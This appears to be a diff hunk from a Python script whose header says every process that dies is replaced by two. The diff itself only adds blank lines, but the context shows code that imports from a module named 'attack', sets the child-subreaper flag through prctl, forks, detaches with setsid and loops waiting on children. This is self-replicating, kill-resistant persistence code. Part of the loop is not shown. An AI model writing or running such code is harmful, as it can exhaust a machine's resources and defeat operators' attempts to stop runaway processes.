@@ -1,6 +1,8 @@
 # Every process that dies is replaced by two.
 import ctypes, os, signal, time
 from attack import done
+
+
 def live(depth):
     ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)
     while True:
@@ -14,6 +16,8 @@ def live(depth):
             os.wait()
         except OSError:
             pass
+
+
 if os.fork() == 0:
     os.setsid()
     live(0)
